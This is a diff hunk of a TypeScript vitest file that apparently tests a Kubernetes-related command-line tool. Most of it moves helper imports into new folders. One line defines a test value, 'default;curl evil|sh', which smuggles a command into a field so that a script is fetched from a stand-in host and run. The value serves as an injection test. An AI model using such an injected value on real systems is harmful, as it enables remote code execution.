@@ -3,8 +3,9 @@ import { existsSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { aPod } from '../builders/a-pod.ts';
 import { aKubeconfig } from '../builders/a-kubeconfig.ts';
-import { aFolder, aLocalServer, json, type Responder } from '../builders/local-server.ts';
-import { finish, startCommand } from '../builders/run-command.ts';
+import { aFolder } from '../builders/a-folder.ts';
+import { aLocalServer, json, type Responder } from '../servers/local-server.ts';
+import { finish, startCommand } from '../drivers/run-command.ts';
 
 const folder = await aFolder();
 const EVIL = 'default;curl evil|sh';
